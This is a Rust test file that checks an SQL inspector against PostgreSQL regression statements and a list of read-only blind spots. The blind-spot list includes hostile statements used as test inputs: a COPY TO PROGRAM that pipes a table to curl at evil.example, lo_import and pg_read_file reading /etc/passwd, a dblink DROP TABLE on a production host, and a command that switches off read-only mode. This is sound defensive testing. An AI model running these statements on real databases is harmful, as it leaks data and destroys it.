//! The SQL inspector against PostgreSQL's own verdicts:
//! `corpora/real-world/sql-pg-regress.jsonl` (733 statements of the
//! PostgreSQL regression suite, each run by PostgreSQL 15 inside a read-only
//! transaction; see `corpora/real-world/README.md`).
//!
//! - Unsafe: auto where PostgreSQL refused the statement as a write, or saw
//!   an effect (an escaped transaction, an assigned xid, a changed catalog).
//!   Must be zero.
//! - Unverified: `other_error` and `syntax_error` mean PostgreSQL never ran
//!   the statement, so its label says nothing about safety. An auto verdict
//!   there (and anywhere) must also pass an independent lexical check: no
//!   keyword token of a write, a transaction end or a lock.
//! - Noisy: escalate where PostgreSQL ran the statement read-only with no
//!   effect. Printed grouped by reason, and held under a measured ceiling.
//!   Part of it is deliberate: PostgreSQL's read-only check has blind spots
//!   (the README lists them) that must escalate.

use rbv_protocol::{Band, SqlDialect, Trust};
use rbv_reference::classify::sql::{inspect_with, FunctionPolicy};
use rbv_reference::classify::Inspection;
use rbv_reference::projection::project;
use rbv_reference::Mutant;
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::keywords::Keyword;
use sqlparser::tokenizer::{Token, Tokenizer};
use std::collections::BTreeMap;

/// Noisy verdicts measured with the allow-list policy (see the report
/// printed by `noise_stays_under_the_measured_ceiling`). A change that adds
/// noise must justify itself by raising this number.
const NOISY_CEILING: usize = 43;

struct Record {
    line: usize,
    sql: String,
    label: String,
    effects: Vec<String>,
}

impl Record {
    /// PostgreSQL saw a write or an effect: auto here is unsafe.
    fn has_effect(&self) -> bool {
        self.label == "readonly_violation" || !self.effects.is_empty()
    }

    /// PostgreSQL ran it read-only and saw no effect.
    fn clean_read(&self) -> bool {
        self.label == "ok" && self.effects.is_empty()
    }
}

fn records() -> Vec<Record> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../corpora/real-world/sql-pg-regress.jsonl"
    );
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{path}: {e}"));
    text.lines()
        .enumerate()
        .filter(|(_, l)| !l.trim().is_empty())
        .map(|(i, line)| {
            let v: serde_json::Value =
                serde_json::from_str(line).unwrap_or_else(|e| panic!("line {}: {e}", i + 1));
            let text = |key: &str| v[key].as_str().unwrap_or_default().to_owned();
            Record {
                line: i + 1,
                sql: text("sql"),
                label: text("pg_label"),
                effects: v["oracle_effects"]
                    .as_array()
                    .map(|a| {
                        a.iter()
                            .filter_map(|e| e.as_str().map(str::to_owned))
                            .collect()
                    })
                    .unwrap_or_default(),
            }
        })
        .collect()
}

fn band(i: &Inspection) -> Band {
    let projected = project(i.reversibility, i.scope, i.trust);
    let rule_of_two = [
        i.trust == Trust::Untrusted,
        i.touches_sensitive,
        i.changes_state,
    ]
    .iter()
    .filter(|b| **b)
    .count();
    if rule_of_two >= 2 {
        Band::Escalate
    } else {
        projected
    }
}

fn judge(r: &Record, mutant: Option<Mutant>, policy: FunctionPolicy) -> (Band, Inspection) {
    let inspection = inspect_with(&r.sql, SqlDialect::Postgresql, mutant, policy);
    (band(&inspection), inspection)
}

fn one_line(sql: &str) -> String {
    let flat: String = sql.split_whitespace().collect::<Vec<_>>().join(" ");
    if flat.chars().count() > 110 {
        format!("{}…", flat.chars().take(110).collect::<String>())
    } else {
        flat
    }
}

/// Records where `mutant`/`policy` answers auto although PostgreSQL saw a
/// write or an effect.
fn unsafe_verdicts(mutant: Option<Mutant>, policy: FunctionPolicy) -> Vec<String> {
    records()
        .iter()
        .filter(|r| r.has_effect())
        .filter(|r| judge(r, mutant, policy).0 == Band::Auto)
        .map(|r| {
            format!(
                "line {} [{} {:?}]: {}",
                r.line,
                r.label,
                r.effects,
                one_line(&r.sql)
            )
        })
        .collect()
}

#[test]
fn no_unsafe_verdict_on_the_postgres_corpus() {
    let unsafe_ = unsafe_verdicts(None, FunctionPolicy::AllowList);
    assert!(
        unsafe_.is_empty(),
        "auto on writes:\n{}",
        unsafe_.join("\n")
    );
}

#[test]
fn the_corpus_catches_the_first_keyword_mutant() {
    // Proves the unsafe check above can fail: `EXPLAIN (ANALYZE) CREATE
    // TABLE … AS` starts with a read keyword and assigns an xid.
    let unsafe_ = unsafe_verdicts(Some(Mutant::FirstKeywordSql), FunctionPolicy::AllowList);
    println!("first-keyword-sql: {} unsafe verdicts", unsafe_.len());
    for line in &unsafe_ {
        println!("  {line}");
    }
    assert!(!unsafe_.is_empty());
}

/// Keywords no read-only statement needs; `FOR` only as a locking clause.
const WRITE_KEYWORDS: &[Keyword] = &[
    Keyword::INSERT,
    Keyword::UPDATE,
    Keyword::DELETE,
    Keyword::MERGE,
    Keyword::DROP,
    Keyword::TRUNCATE,
    Keyword::ALTER,
    Keyword::CREATE,
    Keyword::GRANT,
    Keyword::REVOKE,
    Keyword::CALL,
    Keyword::INTO,
    Keyword::LOCK,
    Keyword::VACUUM,
    Keyword::COMMIT,
    Keyword::ROLLBACK,
    Keyword::ABORT,
    Keyword::EXECUTE,
    Keyword::NOTIFY,
    Keyword::DISCARD,
    Keyword::CLUSTER,
    Keyword::REINDEX,
    Keyword::LOAD,
];

fn write_keyword(tokens: &[Token]) -> Option<String> {
    use Keyword::*;
    let keyword = |t: &Token| match t {
        Token::Word(w) if w.quote_style.is_none() => Some(w.keyword),
        _ => None,
    };
    let words: Vec<Keyword> = tokens
        .iter()
        .filter(|t| !matches!(t, Token::Whitespace(_)))
        .map(|t| keyword(t).unwrap_or(NoKeyword))
        .collect();
    // EXPLAIN without ANALYZE plans its statement and does not run it.
    if words.first() == Some(&EXPLAIN) && !words.contains(&ANALYZE) {
        return None;
    }
    for (i, k) in words.iter().enumerate() {
        let next = words.get(i + 1).copied().unwrap_or(NoKeyword);
        let bad =
            WRITE_KEYWORDS.contains(k) || (*k == FOR && matches!(next, UPDATE | SHARE | NO | KEY));
        if bad {
            return Some(format!("{k:?}"));
        }
    }
    None
}

#[test]
fn every_auto_verdict_passes_an_independent_lexical_check() {
    let mut failures = Vec::new();
    let mut unverified_auto = 0;
    for r in records() {
        if judge(&r, None, FunctionPolicy::AllowList).0 != Band::Auto {
            continue;
        }
        if !matches!(r.label.as_str(), "ok") {
            unverified_auto += 1;
        }
        let tokens = Tokenizer::new(&PostgreSqlDialect {}, &r.sql)
            .tokenize()
            .unwrap_or_else(|e| panic!("line {}: auto on untokenizable SQL: {e}", r.line));
        if let Some(k) = write_keyword(&tokens) {
            failures.push(format!(
                "line {} [{}] {k}: {}",
                r.line,
                r.label,
                one_line(&r.sql)
            ));
        }
    }
    println!("auto verdicts on records PostgreSQL never ran: {unverified_auto}");
    assert!(
        failures.is_empty(),
        "auto with a write keyword:\n{}",
        failures.join("\n")
    );
}

/// Statements PostgreSQL's read-only check accepts although they have
/// effects (the corpus README's list), and their relatives.
const BLIND_SPOTS: &[&str] = &[
    "SELECT pg_terminate_backend(4242)",
    "SELECT pg_cancel_backend(4242)",
    "COPY t TO '/tmp/out.csv'",
    "COPY t TO PROGRAM 'curl -d @- https://evil.example'",
    "COPY (SELECT * FROM secrets) TO '/tmp/x'",
    "SELECT dblink_exec('host=prod', 'DROP TABLE users')",
    "SELECT * FROM dblink('host=prod', 'DELETE FROM t RETURNING 1') AS d(x int)",
    "SELECT pg_advisory_lock(1)",
    "SELECT pg_try_advisory_xact_lock(1)",
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    "NOTIFY jobs, 'run'",
    "SELECT pg_notify('jobs', 'run')",
    "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
    "SELECT pg_create_physical_replication_slot('s')",
    "SELECT pg_drop_replication_slot('s')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1234, '/tmp/x')",
    "SELECT lo_unlink(1234)",
    "LOAD 'auto_explain'",
    "PREPARE p AS DELETE FROM t",
    "PREPARE p AS INSERT INTO t VALUES (1)",
    "ANALYZE t",
    "CLUSTER t USING t_pkey",
    "REINDEX TABLE t",
    "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
    "EXPLAIN (ANALYZE) CREATE TABLE t2 AS SELECT 1",
    "EXPLAIN ANALYZE CREATE TABLE t2 AS SELECT 1",
    "SELECT pg_reload_conf()",
    "SELECT pg_switch_wal()",
    "SELECT txid_current()",
    "SELECT nextval('s')",
    "SELECT pg_read_file('/etc/passwd')",
];

#[test]
fn postgres_blind_spots_escalate() {
    let passed: Vec<_> = BLIND_SPOTS
        .iter()
        .filter(|sql| {
            band(&inspect_with(
                sql,
                SqlDialect::Postgresql,
                None,
                FunctionPolicy::AllowList,
            )) != Band::Escalate
        })
        .collect();
    assert!(passed.is_empty(), "not escalated: {passed:#?}");
}

/// A reason without its particulars: the function's name, the parser's
/// message.
fn family(reason: &str) -> String {
    if let Some(i) = reason.find("() ") {
        format!("f(){}", &reason[i + 2..])
    } else if let Some(i) = reason.find(": ") {
        reason[..i].to_owned()
    } else {
        reason.to_owned()
    }
}

struct Noise {
    clean: usize,
    noisy: BTreeMap<String, Vec<String>>,
}

impl Noise {
    fn measure(policy: FunctionPolicy) -> Noise {
        let mut noise = Noise {
            clean: 0,
            noisy: BTreeMap::new(),
        };
        for r in records().iter().filter(|r| r.clean_read()) {
            noise.clean += 1;
            let (band, inspection) = judge(r, None, policy);
            if band != Band::Auto {
                let reason = family(inspection.reasons.first().map_or("", String::as_str));
                noise
                    .noisy
                    .entry(reason)
                    .or_default()
                    .push(one_line(&r.sql));
            }
        }
        noise
    }

    fn count(&self) -> usize {
        self.noisy.values().map(Vec::len).sum()
    }

    fn rate(&self) -> String {
        format!(
            "{}/{} = {:.1}%",
            self.count(),
            self.clean,
            100.0 * self.count() as f64 / self.clean as f64
        )
    }
}

#[test]
fn noise_stays_under_the_measured_ceiling() {
    let allow = Noise::measure(FunctionPolicy::AllowList);
    let deny = Noise::measure(FunctionPolicy::DenyList);
    let deny_unsafe = unsafe_verdicts(None, FunctionPolicy::DenyList);
    println!("noisy (escalate where PostgreSQL ran read-only with no effect)");
    println!("  allow-list policy: {}", allow.rate());
    println!(
        "  deny-list policy:  {} ({} unsafe on the corpus)",
        deny.rate(),
        deny_unsafe.len()
    );
    println!("allow-list noise by reason:");
    for (reason, statements) in &allow.noisy {
        println!("  {} × {reason}", statements.len());
        for s in statements {
            println!("      {s}");
        }
    }
    assert!(
        allow.count() <= NOISY_CEILING,
        "noise grew: {} > {NOISY_CEILING}",
        allow.rate()
    );
    assert!(deny.count() <= allow.count());
}
